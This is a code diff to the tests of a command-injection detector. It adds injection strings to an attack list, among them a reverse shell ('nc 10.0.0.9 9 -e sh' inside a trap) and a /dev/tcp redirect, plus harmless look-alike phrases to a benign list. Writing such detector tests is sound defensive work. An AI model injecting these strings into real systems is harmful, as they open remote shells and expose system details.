@@ -4,6 +4,9 @@ import { cmdi, detectExhaustive } from './index.js';
 // Written for these tests (not taken from any corpus): each is a shell shape the detector must see.
 const ATTACKS: string[] = [
   'report.pdf; whoami',
+  'x;rmt-tar -f /dev/tcp/10.0.0.9/9',
+  'x; lastlogin -u root',
+  "x;trap 'nc 10.0.0.9 9 -e sh' EXIT",
   'report.pdf;uname -r',
   'x && id',
   'x || ls -al /var/www',
@@ -51,6 +54,9 @@ const ATTACKS: string[] = [
 
 const BENIGN: string[] = [
   'Tea; coffee; biscuits',
+  'a trap for mice; cheese',
+  'bridge the gap',
+  'tickets; cmd-line tools; php-fpm tuning',
   'Tea; cat food; dog food',
   'a | b | c',
   '| Name | Type | Size |',
